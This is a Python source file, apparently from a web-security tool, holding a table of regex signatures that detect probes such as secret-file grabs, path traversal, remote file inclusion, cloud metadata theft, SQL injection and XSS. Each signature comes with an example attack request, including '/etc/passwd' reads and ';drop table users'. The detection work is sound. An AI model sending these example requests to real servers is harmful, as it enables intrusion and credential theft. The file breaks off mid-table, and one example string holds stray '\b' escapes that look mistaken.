# Copyright (c) 2026 The bottomup.security authors
# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""What robots ask web servers for: the one table of signatures.

A row: id, category, severity where the server answered it, where it is looked for, literals, pattern, why, an example, a near miss.

* where: C(path), C(query), C(target) (path and query), C(line) (the whole request), C(agent) (User-Agent), C(any) (target,
  User-Agent and Referer). Patterns see normalised text (web_probes_text.normalise): decoded, lower case, C(/) for C(\\).
* where C(refused): the whole line of a request that the server answered with 400.
* literals: no text matches the pattern without one of them; they are searched for first, on the skeleton. One of letters only
  stands for a whole word, one that begins with C(*) for letters anywhere; C(a+b): the word a, and b anywhere.
* a category or severity that begins with C(?) marks a weak signature: a name that some applications really have. It counts only
  where the server does not serve it to several clients.
* no pattern has a quantifier inside a quantifier over the same characters: paths are attacker's data.

The names of scanners follow the OWASP Core Rule Set (Apache-2.0), scanners-user-agents.data.
Note that this module util is **PRIVATE** to the collection. It can have breaking changes at any time.

Python 3.6, standard library only: this runs on the servers.
"""

from __future__ import absolute_import, division, print_function

__metaclass__ = type

import collections
import re

Signature = collections.namedtuple("Signature", "id category answered weak where literals pattern digits why example near_miss")

CATEGORIES = collections.OrderedDict((
    ("secrets", "secrets and dotfiles"),
    ("vcs_backup", "version control, backups and dumps"),
    ("rails", "Rails and Ruby"),
    ("traversal", "path traversal and file inclusion"),
    ("sqli", "SQL injection"),
    ("xss", "cross-site scripting"),
    ("injection", "command, code and template injection"),
    ("log4shell", "Log4Shell"),
    ("shellshock", "Shellshock"),
    ("webshell", "web shells"),
    ("cve", "known vulnerable paths"),
    ("cms_admin", "CMS and admin panels"),
    ("open_proxy", "open proxy tries"),
    ("scanner", "scanners by their User-Agent"),
    ("malformed", "not HTTP"),
))

# Name and extension of a script that a Rails application does not have.
_SCRIPT = br"\.(?:php\d?|phtml|phar|aspx?|ashx|asmx|ascx|axd|jspx?|jspa|jhtml|cfm|cgi|pl|do|action|dll|exe)"
_CONFIG = br"\.(?:ya?ml|json|xml|ini|toml|conf|cfg|env|txt|py|rb|pl|properties|asp|php|inc|nu|fish)"

_TABLE = (
    # ---- secrets and dotfiles
    ("env_file", "secrets", "critical", "path", (b".env",),
     br"(?:/|^)[\w.-]{0,40}\.env(?:[._~-][\w.~-]{0,60})?/?$",
     "environment files hold database passwords and API keys", "GET /app/.env.production", "GET /environment"),
    ("dotfile", "secrets", "critical", "path", (b"/.",),
     br"/\.(?!well-known(?:/|$)|git|svn|hg|bzr|cvs|bundle|ruby|rspec|rubocop|env\b)[a-z_$][\w.+~-]*",
     "hidden files hold keys, histories and settings of tools", "GET /.aws/credentials", "GET /.well-known/acme-challenge/x"),
    ("private_key", "secrets", "critical", "path",
     (b"id_rsa", b"id_dsa", b"id_ecdsa", b"id_ed", b"pem+.pem", b"key+.key", b"pfx+.pfx", b"ppk+.ppk", b"jks+.jks", b"kdbx+.kdbx"),
     br"/(?:id_(?:rsa|dsa|ecdsa|ed\d{5})(?:\.\w{1,10}){0,2}|[\w.-]*(?:private|server|ssl|domain|host|site|www|privkey|key|localhost|cert)[\w.-]*\.(?:pem"
     br"|key|pfx|ppk|jks)|[\w.-]+\.kdbx)$",
     "private keys", "GET /ssl/private.key", "GET /docs/public.keynote"),
    ("password_file", "secrets", "critical", "path",
     (b"htpasswd", b"htaccess", b"htdigest", b"shadow", b"passwd", b"passwords", b"password", b"pwd", b"initial_root_password", b"wallet",
      b"*password"),
     br"/(?:\.?ht(?:passwd|access|digest)(?:[.~-][\w.~-]*)?|etc/shadow|shadow|passwd|(?:passwords?|passwd|pwd|users?_?passwords?"
     br"|initial_root_password)\.(?:txt|csv|xlsx?|json|xml|db|lst|log|ya?ml)|initial_root_password|wallet\.dat)$",
     "password lists", "GET /passwords.txt", "GET /passwords/new"),
    ("credential_file", "secrets", "critical", "path",
     (b"auth", b"firebase", b"sendgrid", b"aws", b"*credential", b"*secret", b"*service_account", b"*serviceaccount", b"service-account",
      b"*api_token", b"*apitoken", b"api-token"),
     br"/(?:[\w-]*(?:credentials?|secrets?|service[_-]?accounts?(?:key)?|sendgrid|aws[_-]?(?:keys?|config|credentials?|secrets?)?|api[_-]?tokens?"
     br"|client_secrets?|firebase-adminsdk)[\w-]*\.(?:json|ya?ml|txt|env|csv|xml|ini|toml|properties|conf)|auth\.json)$",
     "keys of clouds and services", "GET /secrets.json", "GET /secret-garden"),
    ("config_file", "?secrets", "high", "path",
     (b"parameters", b"security", b"services", b"routing", b"setup", b"compose", b"local", b"env", b"web", b"/config", b".config", b"*settings"),
     br"/(?:(?:[\w-]+\.)?config(?:uration)?[\w.-]{0,30}" + _CONFIG
     + br"|(?:app)?settings[\w.-]{0,30}" + _CONFIG
     + br"|(?:config/)?(?:parameters|security|services|routing)\.(?:ya?ml|php|json)|app/etc/(?:env\.php|local\.xml)|web\.config[\w.]*"
     + br"|(?:docker-)?compose[\w.-]*\.ya?ml|setup\.(?:py|cfg|ini))[~\d]?$",
     "settings of an application", "GET /config.prod.yml", "GET /config"),
    ("wp_config", "secrets", "critical", "path", (b"wp",),
     br"\bwp-config(?!\.css|\.js)[\w.~-]*",
     "the database password of WordPress", "GET /wp-config.php.bak", "GET /wp-content/x.css"),
    ("tool_file", "?secrets", "high", "path",
     (b"package", b"packages", b"composer", b"yarn", b"webpack", b"gruntfile", b"gulpfile", b"npm", b"bower", b"dockerfile", b"phpcs",
      b"phpunit", b"pyproject", b"pytest", b"cargo", b"mod", b"sum", b"zig", b"coverage", b"ftp", b"sftp", b"makefile", b"vagrantfile",
      b"jenkinsfile", b"requirements", b"pipfile", b"poetry", b"tsconfig", b"desktop", b"thumbs", b"ws_ftp", b"weblogic", b"tfstate", b"tfvars",
      b"gitlab", b"fish_variables", b"ldap", b"serverless", b"aws", b"*gitlab_config"),
     br"/(?:package(?:s|-lock)?\.json|composer\.(?:json|lock|phar)|yarn\.lock|webpack\.[\w.]+|(?:grunt|gulp)file\.\w+|npm-shrinkwrap\.json|bower\.json"
     br"|dockerfile(?:[.-][\w.-]*)?|phpcs\.xml(?:\.dist)?|phpunit\.xml(?:\.dist)?|pyproject\.toml|pytest\.ini|cargo\.(?:toml|lock)|go\.(?:mod|sum)"
     br"|build\.zig(?:\.\w+)?|coverage\.xml|(?:ftp-sync|sftp)(?:[.-][\w-]*)?\.json|makefile|vagrantfile|jenkinsfile|requirements\.txt|pipfile(?:\.lock)?"
     br"|poetry\.lock|tsconfig\.json|desktop\.ini|thumbs\.db|ws_ftp\.\w+|weblogic\.xml|[\w.-]*\.tfstate(?:\.\w+)?|terraform\.tfvars|gitlab\.rb"
     br"|gitlab_config_\w*|fish_variables|ldap-authentication-report\.csv|serverless\.ya?ml|aws\.ya?ml)$",
     "files of a build that tell versions and names", "GET /composer.lock", "GET /packages/12"),
    ("server_ini", "secrets", "critical", "path", (b"ini+.ini", b"cnf+.cnf", b"conf+.conf", b"sslvpn_websession", b"blockcypher"),
     br"/(?:(?:php|boot|system|win|\.?user)\.ini|\.?my\.cnf|mysql(?:d|dump)?\.cnf|debian\.cnf|(?:nginx|httpd|apache\d?)\.conf|sslvpn_websession"
     br"|blockcypher\.log)$",
     "settings of the server's own services", "GET /my.cnf", "GET /winter.ini/x"),
    ("log_file", "secrets", "critical", "path", (b"log+.log", b"log+/log/", b"logs+/logs/", b"access_log", b"error_log", b"security_debug_log"),
     br"/(?:(?:access|error|errors|debug|php_errors?|security|laravel|server|application|app|system|install|update|deploy|mysql|mysqld|nginx|apache|dump"
     br"|npm-debug|yarn-(?:debug|error)|rsync|pm\d|catalina|auth|mail|cron|ftp|sql|trace|wp-errors?|storage/logs/[\w.-]+"
     br"|security_debug)[\w-]{0,20}\.log(?:\.(?:\d+|gz|old|txt|bak))*|logs?/[\w.-]+\.(?:log|txt)(?:\.\w+)?|(?:access|error|security_debug)_log)$",
     "logs hold addresses, sessions and traces", "GET /storage/logs/laravel.log", "GET /changelog"),
    ("system_path", "?traversal", "high", "path", (b"etc", b"usr", b"var", b"proc", b"boot", b"windows", b"system32", b"winnt"),
     br"^/(?:etc|usr|var|proc|boot|windows|system32|winnt)(?:/|$)",
     "the directories of the system, as if the root were served", "GET /etc/redis.conf", "GET /boots/winter"),
    ("process_files", "secrets", "critical", "path",
     (b"proc", b"sys", b"anaconda", b"miniconda", b"perl", b"openvpn", b"wg", b"nbproject", b"__pycache__", b"node_modules", b"inf", b"fd",
      b"/@"),
     br"^/(?:proc(?:/|$)|sys/(?:block|bus|class|dev|devices|firmware|fs|hypervisor|kernel|module|power|$)|@(?:fs|id)/|(?:mini|ana)conda\d/|perl/(?:lib"
     br"|bin)|openvpn/|wg-clients/|nbproject/|dev/fd/)|/(?:__pycache__|node_modules/\.(?:bin|cache)|(?:meta|web)-inf)(?:/|$)",
     "directories of the system, of tools and of Java applications", "GET /web-inf/web.xml", "GET /products/process"),
    # ---- version control, backups, dumps
    ("vcs", "vcs_backup", "critical", "path", (b"cvs", b"_darcs", b"/."),
     br"/\.(?:git|svn|hg|bzr|cvs)(?:[/_.-]|ignore|attributes|modules|config|keep|hub|lab|\w*$)|/cvs/(?:entries|root|repository)$|/_darcs/",
     "the whole source with its history", "GET /.git/config", "GET /legit/config"),
    ("backup_suffix", "vcs_backup", "critical", "path",
     (b"bak+.bak", b"backup+.backup", b"old+.old", b"orig+.orig", b"original+.original", b"sav+.sav", b"save+.save", b"swp+.swp", b"swo+.swo",
      b"copy+.copy", b"bkp+.bkp", b"bk+.bk", b"tmp+.tmp", b"inc+.inc", b"dist+.dist", b"sample+.sample", b"~"),
     br"[\w)]\.(?:bak|backup|old|orig(?:inal)?|sav|save|sw[op]|copy|bkp|bk|tmp|inc|dist|sample)(?:\d{1,3}|[.~]\w{0,10})?$|\.\w+~$|/~\w*\.\w+$",
     "a copy of a script is sent as text", "GET /index.php.bak", "GET /bakery"),
    ("sql_dump", "vcs_backup", "critical", "path",
     (b"sql+.sql", b"dump+.dump", b"dmp+.dmp", b"mdb+.mdb", b"sqlite+.sqlite", b"db+.db", b"pgdump+.pgdump", b"myd+.myd", b"frm+.frm",
      b"rdb+.rdb"),
     br"\.(?:sql|dump|dmp|mdb|sqlite\d?|db\d?|pgdump|myd|frm|rdb)(?:[-.]\w{1,4})*$(?<!/thumbs\.db)",
     "a dump of a database", "GET /backup/db.sql.gz", "GET /mysql-tuning"),
    ("site_archive", "vcs_backup", "critical", "path",
     (b"zip+.zip", b"rar+.rar", b"7z+.7z", b"tar+.tar", b"tgz+.tgz", b"gz+.gz", b"bz+.bz", b"tbz+.tbz", b"xz+.xz", b"war+.war", b"zst+.zst",
      b"sql+.sql"),
     br"^/(?:[\w.-]+/)?(?:[\w-]*(?:back-?up|bak|bckup)[\w-]*|dump|database|db|sql|mysql|www|wwwroot|public_html|htdocs|html|htdocs|httpdocs|sites?"
     br"|website|web|webroot|home|root|source|src|code|server|project|old|archive|prod(?:uction)?|staging|dev|full|domain|admin|portal"
     br"|\d{4})(?:[._-][\w.-]{0,20})?\.(?:zip|rar|\dz|tar|tgz|t?bz\d?|(?:tar\.)?(?:gz|bz\d|xz|zst)|war)$|^/(?:[\w-]{1,60}\.){1,4}(?:com|net|org|io|de|fr"
     br"|uk|es|it|nl|eu|info|biz|local)\.(?:zip|rar|\dz|tar|tgz|sql|(?:tar\.)?(?:gz|bz\d|xz|zst))$",
     "an archive of the site at a guessed name", "GET /backup.zip", "GET /downloads/manual.zip"),
    # ---- Rails and Ruby
    ("rails_key", "rails", "critical", "path", (b"master", b"credentials", b"secrets", b"secret_token", b"secret_key_base", b"user_secrets"),
     br"/(?:master\.key|credentials(?:/[\w-]+)?\.(?:yml\.enc|yml|key)|secrets\.yml(?:\.enc)?|(?:user_)?secrets\.yml|initializers/secret_(?:token"
     br"|key_base)\.rb|credentials/[\w-]+\.(?:key|yml\.enc))(?:$|[.~])",
     "the key that decrypts the application's secrets", "GET /config/master.key", "GET /mastery/key"),
    ("rails_config", "rails", "critical", "path", (b"database+/database.y", b"/config/"),
     br"/database\.ya?ml|/config/(?:application|boot|environment|environments/[\w-]+|initializers/[\w-]+|routes|puma|unicorn|sidekiq|deploy(?:/[\w-]+)?"
     br"|storage|cable|mongoid|redis|newrelic|locales/[\w-]+|webpacker|cache|queue)\.(?:rb|ya?ml)",
     "settings of a Rails application", "GET /config/database.yml", "GET /docs/config/routes"),
    ("rails_info", "rails", "critical", "path",
     (b"info+rails/info", b"mailers+rails/mailers", b"conductor+rails/conductor", b"console+rails/console"),
     br"^/(?:[\w-]+/)?rails/(?:info|mailers|conductor|console)(?:/|$)",
     "the pages of the development mode", "GET /rails/info/routes", "GET /rails/active_storage/blobs/redirect/x/info"),
    ("rails_log", "rails", "critical", "path", (b"log+/log/",),
     br"/log/(?:production|development|staging|test|puma[\w.]*|unicorn[\w.]*|sidekiq|newrelic_agent|delayed_job|cron|whenever|nginx\.\w+|bullet)\.log",
     "the application's log", "GET /log/production.log", "GET /blog/production.login"),
    ("ruby_source", "rails", "critical", "path",
     (b"gemfile", b"rakefile", b"capfile", b"procfile", b"guardfile", b"schema", b"seeds", b"structure", b"migrate", b"rb", b"erb", b"haml",
      b"slim", b"tmp", b"tasks", b"config.ru", b"/."),
     br"/(?:gemfile(?:\.lock)?|rakefile|capfile|procfile(?:\.dev)?|guardfile|config\.ru)$|/\.(?:bundle|ruby-(?:version|gemset)|rspec|rubocop)"
     br"|/db/(?:schema\.rb|seeds\.rb|structure\.sql|migrate(?:/|$))|^/app/(?:models|controllers|helpers|views|jobs|mailers|assets)/[\w/.-]*\.(?:rb|erb"
     br"|haml|slim)\b|^/tmp/(?:restart\.txt|cache|pids|sockets|sessions)|^/lib/tasks(?:/|$)",
     "source and state of a Ruby application", "GET /Gemfile.lock", "GET /gemfiles"),
    ("rails_folder", "?rails", "critical", "path", (b"storage", b"public", b"log"),
     br"^/(?:storage|public|log)/?$",
     "a folder of the application itself, listed by the web server", "GET /storage/", "GET /storage-boxes"),
    ("rails_mail_viewer", "rails", "critical", "path", (b"letter_opener",),
     br"^/(?:[\w-]+/)?letter_opener(?:/|$)",
     "mails of the development mode", "GET /letter_opener", "GET /letters/opener"),
    ("rails_console", "?rails", "critical", "path",
     (b"repl_session", b"repl_sessions", b"__better_errors", b"__web_console", b"__console", b"__webconsole", b"web_console", b"webconsole",
      b"/console ", b"/console/", b"/console?", b"web-console"),
     br"^/(?:(?:rails/|__)?(?:web[-_]?)?console|repl_sessions?|__better_errors)/?$|^/(?:__)?web_?console/|^/(?:repl_sessions|__better_errors)/",
     "a Ruby console in the browser", "GET /console", "GET /consoles/12"),
    ("rails_panel", "?rails", "high", "path",
     (b"sidekiq", b"resque", b"pghero", b"blazer", b"good_job", b"rails_admin", b"delayed_job", b"solid_queue", b"mission_control", b"flipper",
      b"graphiql", b"profiler", b"mini"),
     br"^/(?:admin/)?(?:sidekiq|resque|pghero|blazer|good_job|rails_admin|delayed_job|solid_queue|mission_control|flipper|graphiql|rack-mini-profiler"
     br"|mini-profiler-resources)(?:/|$)",
     "panels of Ruby libraries, often without a login", "GET /sidekiq/queues", "GET /blog/sidekiq-tips"),
    ("sprockets", "rails", "critical", "target", (b"file", b"etc", b"database", b"../"),
     br"^/(?:assets|packs)/(?:file:|[^?]*\.\./|(?:[^?]*/)?(?:etc/passwd|database\.yml))",
     "CVE-2018-3760: files outside of the assets through Sprockets", "GET /assets/file:%2f%2f/etc/passwd", "GET /assets/application-9a1d.js"),
    ("ruby_object", "rails", "critical", "target", (b"ruby+!ruby/", b"erb+.", b"kernel+kernel.", b"<%", b"("),
     br"!ruby/(?:object|hash|struct|regexp|class)|<%=|\berb\.new\(|\bkernel\.(?:exec|system|open)|\bsend\(:(?:system|exec|eval)",
     "objects made from YAML, or Ruby code", "GET /?x=!ruby/object:Gem::Installer", "GET /ruby/objects"),
    # ---- traversal and inclusion
    ("lfi_file", "traversal", "critical", "any",
     (b"etc+etc/", b"proc+proc/", b"windows+windows/", b"winnt+winnt/", b"inetpub+inetpub/", b"ini+.ini", b"inf+-inf/", b"var+var/log",
      b"cmdb+/cmdb", b"root+root/.", b"bin+bin/"),
     br"(?:^|[/=:?&\s\x00.])etc/(?:passwd|shadow|group|hosts|issue|hostname|motd|fstab|crontab|sudoers|my\.cnf|mysql|apache\d?|httpd|nginx|php|ssh|ssl"
     br"|security|npasswd|master\.passwd|resolv|rc\.|init|vsftpd|proftpd|samba|pki|opt)|(?:^|[/=:])proc/(?:self|\d{1,6}|version|cpuinfo|meminfo|mounts"
     br"|net|cmdline|sched_debug)(?:/|$|\x00|&|\s)|\bwindows/(?:win\.ini|system\d\d|system\.ini|php\.ini|repair|debug)|(?:[a-z]:|[/=])/?(?:winnt"
     br"|inetpub)/|(?:^|[/=])(?:boot|win|system)\.ini(?:$|[&\x00\s%])|\.\./[^&]*\bweb-inf/|\bvar/log/(?:apache|httpd|nginx|auth|messages|syslog|mail"
     br"|secure|vsftpd|lastlog|wtmp)|\bdev/cmdb/sslvpn|\broot/\.(?:ssh|bash|my)|/bin/(?:ba|z|k|c|da)?sh(?:$|[\s?;&])",
     "files that every system has at a known place", "GET /download?file=/etc/passwd", "GET /blog/2018/02/etc-passwd"),
    ("dotdot_query", "traversal", "high", "query", (b"../", b"..;"),
     br"(?:^|[=/&:,\s'\"\x00])\.{2,3}[/;].{0,2000}?(?:/|\.\w|\w)|\.\./\.\./",
     "a parameter that leaves its folder", "GET /download?file=../../../../yarn-debug.log", "GET /search?q=wait..+what"),
    ("dotdot_path", "traversal", "info", "path", (b"../", b"/..", b"..;"),
     br"^/\.\.(?:/|$)|/\.\.;/|\.\./\.\./|[\w.]\.\./|/\.\./[^?]*(?:etc/|proc/|config|\.env|\.git|\.ssh|passwd|windows|\.ya?ml|\.log|\.conf|\.ini|\.key)"
     br"|/cgi-bin/[^?]*\.\./",
     "a path that leaves the document root; the web server normalises it", "GET /images/../../x", "GET /a..b/c"),
    ("wrapper", "traversal", "critical", "target",
     (b"php+:", b"expect+:", b"data+:", b"phar+:", b"zip+:", b"glob+:", b"zlib+:", b"compress+:", b"file+:", b"gopher+:", b"dict+:", b"netdoc+:",
      b"ldap+:", b"ldaps+:"),
     br"\b(?:php|expect|phar|zip|glob|compress\.\w+|zlib)://?(?:filter|input|stdin|output|memory|temp|\w)|\bdata:(?://)?text/(?:plain|html);base\d\d|(?:^"
     br"|[=,(:\s])(?:file:/+(?:etc|proc|root|home|var|dev|windows|[a-z]:/(?:windows|boot))|gopher://|dict://|netdoc:/|ldaps?://\d)",
     "a parameter that opens something else than a file", "GET /?page=php://filter/convert.base64-encode/resource=index", "GET /learn/php-filters"),
    ("remote_include", "traversal", "high", "query",
     (b"shell+://", b"cmd+://", b"c99+://", b"r57+://", b"evil+://", b"fx29id+://", b"id+://", b"echo+://", b"?&", b"? ", b"??", b"?\x00"),
     br"=(?:https?|ftps?)://[^&\s]{1,300}\.(?:txt|php|gif|jpe?g|dat|inc|cmd|asp|htm)\?{1,3}(?:[&\x00]|\s|$)|=(?:https?|ftps?)://[^&\s/]{1,200}/(?:shell"
     br"|cmd|c99|r57|evil|id|fx29id|echo)\d?\.(?:txt|php|gif)",
     "a script from another server", "GET /start.php?lang=http://cirt.net/rfiinc.txt?", "GET /login?return_to=http://shop.example.com/cart"),
    ("ssrf_metadata", "traversal", "critical", "target", (b"metadata", b"meta", b"169.254.169.254"),
     br"169\.254\.169\.254|\bmetadata\.google\.internal|100\.100\.100\.200/latest|latest/\bmeta-data\b",
     "the credentials that a cloud gives its machines", "GET /fetch?url=http://169.254.169.254/latest/\bmeta-data\b/", "GET /versions/169.254"),
    # ---- SQL injection
    ("sql_union", "sqli", "medium", "target", (b"union+select",),
     br"\bunion\b[^a-z0-9]{1,40}(?:(?:all|distinct|distinctrow)\b[^a-z0-9]{0,40})?\(?\s*(?:/\*!?\d*)?\s*select\b[^a-z]{0,40}?(?:null|[\d@*'\"(]|char"
     br"|concat|version|database|user|group_|load_|table_|column_|\w{1,40}\s{0,3}(?:,|\(|\)|from\b))",
     "columns of another table added to the answer", "GET /items?id=1 union select null,version()", "GET /search?q=union+select+committee"),
    ("sql_select", "sqli", "medium", "target",
     (b"select ", b"select(", b"select*", b"select'", b"select\"", b"select@", b"select`", b"select[", b"select]", b"select.", b"select\x0b",
      b"select\x0c"),
     br"\bselect\b\s*(?:\*|(?:count|concat|char|chr|cast|ascii|substr|substring|sleep|pg_sleep|if|elt|max|min|group_concat|hex|length|user|version"
     br"|database|load_file|utl_\w+|dbms_\w+|extractvalue|unhex|benchmark)\s*\(|\(\s{0,5}(?:\d|select|case|null|\'|@@|\w{1,30}\s?\()|@@|case\s+when"
     br"|top\s+\d|distinct\s+\w+\s*(?:,|from)|[\w.`\"\[\]]{1,40}\s*(?:,\s*[\w.`@(]{1,40}\s*)+from\b|(?:(?:\d{1,9}|null|'[^'&]{0,40}')\s{0,5}(?:,|\bfrom\b"
     br"|\bunion\b|$|&|--|\)|\*|;)|\w{1,30}\s+from\s+(?:information_schema|sysobjects|sys\.|pg_|all_|dual|mysql|rdb|users?\b(?:\s*(?:where|limit|--|#|;|$"
     br"|&))|\w+\s+where\b|\w+\s*(?:--|limit))))"
     br"|\(\s*select\b\s*(?:\(|\*|\d|'|@|null|\w{1,30}\s*(?:\(|,|\bfrom\b))",
     "a query inside of a parameter", "GET /items?id=(select count(*) from users)", "GET /search?q=select+a+gift+from+our+store"),
    ("sql_tautology", "sqli", "medium", "target",
     (b"'", b"\"", b"`", b"(", b"or", b"and", b"where", b"having", b"xor", b"rlike", b"when", b"if", b"regexp", b"||", b"&&"),
     br"(?:\b(?:or|and|where|having|xor|rlike|when|if|regexp)\b|\|\||&&)[\s(+'\"!~`-]{0,30}(?:not\s{1,3})?\(*\d{1,10}[\s)'\"]{0,8}(?:=|<>|!=|<=>|<|>"
     br"|\blike\b|\bbetween\s+\d{1,10}\s+and\b|\bin\s*\()[\s(+'\"-]{0,8}(?:\d|select\b)"
     br"|(?:\b(?:or|and|where|having|xor|rlike)\b|\|\|)[\s(]{0,12}(?:['\"`][^'\"&=]{0,40}['\"`]|\(?\s*\w{1,30}\s*\)?)[\s)]{0,8}(?:=|<>|!="
     br"|\blike\b)[\s(]{0,8}['\"`][^'\"&]{0,40}(?:['\"`]|$|&|\s--)"
     br"|['\"`][\s)]{0,12}(?:(?:or|and|xor|having|where|rlike)\b|\|\||&&)[\s(]{0,12}(?:(?:\d{1,10}|true|false)[\s)]{0,8}(?:=|<|>|--|#|/\*|;|\bis\b"
     br"|\blike\b|\bin\b|$|&)|(?:['\"`][^'\"&]{0,40}['\"`]?|not|exists|\w{1,30})[\s)]{0,8}(?:=|--|#|/\*|\blike\b|\brlike\b|\()|(?:ascii|substr\w{0,6}"
     br"|length|mid|updatexml|sleep|exists|extractvalue)\s?\()",
     "a comparison that is always true or false", "GET /users?id=1' or 1=1-- -", "GET /search?q=pen+and+paper"),
    ("sql_quote", "sqli", "medium", "query", (b"'", b"\"", b"`"),
     br"(?:^|=)[^=&'\"]{0,80}['\"`]{1,2}[\s)%]{0,12}(?:--(?:[\s-]|$)|--\s?\w{0,10}(?:$|&)|;?\s*(?:--|/\*)|#\s*(?:$|&)(?<=\)\s#|\)\)#|'\s#))"
     br"|['\"][\s)%]{0,12}(?:union|order\s+by|group\s+by|limit|procedure|into\s+outfile|having|rlike|waitfor|in\s+boolean\s+mode|as\s+\w{1,10}\s+where"
     br"|,\s*\(\s*select)\b",
     "a quote that ends the query's own", "GET /users?name=admin'--", "GET /search?q=rock+'n'+roll"),
    ("sql_function", "sqli", "medium", "target",
     (b"sleep+(", b"pg_sleep+(", b"benchmark+(", b"waitfor", b"randomblob+(", b"extractvalue+(", b"updatexml+(", b"load_file+(", b"outfile",
      b"dumpfile", b"generate_series+(", b"procedure+analyse", b"make_set+(", b"elt+(", b"json_keys+(", b"ctxsys", b"group_concat+(",
      b"concat+(", b"concat_ws+(", b"boolean+mode", b"char+(", b"nchar+(", b"chr+(", b"iif+(", b"ascii+(", b"ord+(", b"mid+(", b"substr+(",
      b"substring+(", b"floor+(", b"exp+(", b"uuid_short+(", b"crypt_key+(", b"convert+(", b"cast+(", b"count+(", b"row+(",
      b"regexp_substring+(", b"regexp_like+(", b"regexp_replace+(", b"xp_cmdshell", b"xp_dirtree", b"sp_executesql", b"sp_password",
      b"sp_oacreate", b"utl_inaddr", b"utl_http", b"utl_file", b"dbms_pipe", b"dbms_lock", b"dbms_utility", b"dbms_xslprocessor", b"dbms_ldap",
      b"gtid_subset+(", b"gtid_subtract+("),
     br"\b(?:pg_)?sleep\s*\(\s*(?:\d+(?:\.\d+)?\s*(?:[),*+/-]|$)|__|\(|'|@|select)|\bbenchmark\s*\(\s*\d+\s*,|\bwaitfor\s+(?:delay|time)\b"
     br"|\brandomblob\s*\(|\bextractvalue\s*\(|\bupdatexml\s*\(|\bload_file\s*\(|\binto\s+(?:out|dump)file\b|\bxp_(?:cmdshell|dirtree)\b"
     br"|\bsp_(?:executesql|password|oacreate)\b|\bdbms_(?:pipe|lock|utility|xslprocessor|ldap)\b|\butl_(?:inaddr|http|file)\b|\bgenerate_series\s*\("
     br"|\bprocedure\s+analyse\b|\bmake_set\s*\(|\belt\s*\(\s*[\d(]|\bgtid_sub(?:set|tract)\s*\(|\bjson_keys\s*\(|\bctxsys\.|\bgroup_concat\s*\("
     br"|\bconcat(?:_ws)?\s*\(\s*(?:\dx|char|'|\"|\(|@@|\d|md\d|user|database|version|chr|\w+\s*,)|\bin\s+boolean\s+mode\s*\)|\b(?:n?char"
     br"|chr)\s*\(\s*\d{1,4}\s*(?:,|\)\s*(?:\|\||\+|\s|,|&|=))|\biif\s*\(\s*\d|\b(?:ascii|ord|mid|substr(?:ing)?)\s*\(\s*(?:\(|mid|substr|select|user"
     br"|database|version|@@|length|lower|group)|\bfloor\s*\(\s*rand|\bexp\s*\(\s*~|\buuid_short\s*\(|\bcrypt_key\s*\(|\b(?:convert|cast)\s*\(\s*(?:int"
     br"|\(|char|concat|chr|select|@@|user|database|version|\w+\s+as\s)|\bcount\s*\(\s*\*\s*\)|\brow\s*\(\s*\d+\s*,\s*\d+\s*\)\s*[<>]"
     br"|\bregexp_(?:substring|like|replace)\s*\(",
     "functions that wait, read files or carry data out", "GET /items?id=1 and sleep(5)", "GET /search?q=sleep+(8+hours)"),
    ("sql_schema", "sqli", "medium", "target",
     (b"information_schema", b"sysobjects", b"syscolumns", b"sysusers", b"sysibm", b"sysmaster", b"sysdatabases", b"rdb", b"pg_catalog",
      b"pg_shadow", b"pg_user", b"pg_tables", b"all_users", b"all_tables", b"user_tables", b"sqlite_master", b"mysql", b"dual",
      b"msysaccessobjects", b"domain", b"master", b"@@"),
     br"\binformation_schema\b|\bsys(?:objects|columns|users|ibm|master|databases)\b|\brdb\$|\bpg_(?:catalog|shadow|user|tables)\b|\ball_(?:users"
     br"|tables)\b|\buser_tables\b|\bsqlite_master\b|\bmysql\.(?:user|db|innodb)|\bfrom\s+dual\b|@@(?:version|hostname|datadir|servername|global|basedir)"
     br"|\bmsysaccessobjects\b|\bdomain\.domains\b|\bmaster\.\.",
     "the tables that describe a database", "GET /items?id=1 and 1 in (select table_name from information_schema.tables)", "GET /search?q=information+schema"),
    ("sql_statement", "sqli", "medium", "target",
     (b";", b"order+by", b"case+when", b"drop+table", b"drop+database", b"insert+into", b"delete+from", b"update+set", b"exec+master",
      b"exec+xp_", b"exec+sp_"),
     br";\s{0,5}(?:drop\s+(?:table|database|user|view|index)\b|insert\s+into\b|delete\s+from\b|update\s+[\w.`\"]{1,40}\s+set\b|declare\s+@"
     br"|exec(?:ute)?[\s(]+(?:master|immediate|xp_|sp_|@|\(|'|dbms)|shutdown\b|truncate\s+table|alter\s+(?:table|user)|create\s+(?:table|user|function"
     br"|or\s+replace)|begin\s+(?:dbms|declare|user)|call\s+\w+\s*\(|select\b\s*(?:\(|\*|\w+\s*\(|like|case))"
     br"|(?:['\")]\s{0,5}|\d\s{1,5})order\s+by\s+\d{1,5}\s{0,5}(?:--|#|,|$|&|/\*)|\bcase\s+when\s{0,5}(?:[\d('\"@]|\w{1,30}\s{0,3}[=<>(])[^&]{0,80}\bthen\b"
     br"|\bdrop\s+(?:table|database)\s+(?:if\s+exists\s+)?[\w.`\"]+\s*(?:;|--)|\binsert\s+into\s+[\w.`]+\s*(?:\([^)&]{1,100}\)\s*)?values\b"
     br"|\bdelete\s+from\s+[\w.`]+\s*(?:where\b|;|--)|\bupdate\s+[\w.`]+\s+set\s+[\w.`]+\s*=|\bexec\s+(?:master|xp_|sp_)",
     "a statement that follows the query's own", "GET /items?id=1;drop table users", "GET /search?q=drop+earring"),
    # ---- cross-site scripting
    ("xss_tag", "xss", "medium", "any", (b"<",),
     br"<[\s/]{0,5}(?:script|svg|iframe|object|embed|math|marquee|isindex|meta|base|bgsound|layer|ilayer|applet|frameset|frame|xml|xss|link|style|img"
     br"|image|video|audio|body|input|form|details|textarea|keygen|select|button|plaintext|noscript|template|title|html|(?:a|div|b|p|x|table|td|span|i|u"
     br"|s)\s[^<>]{0,100}[=>]|!--|!doctype|!entity|!\[cdata|\?xml|\?import)",
     "HTML in a request", "GET /search?q=<script>alert(1)</script>", "GET /search?q=a<b"),
    ("xss_handler", "xss", "medium", "target",
     (b"onerror", b"onload", b"onclick", b"onfocus", b"onfocusin", b"onfocusout", b"onblur", b"ontoggle", b"onstart", b"onbegin", b"onend",
      b"onfinish", b"onbounce", b"onsubmit", b"onchange", b"oninput", b"onselect", b"onresize", b"onscroll", b"onpageshow", b"onpagehide",
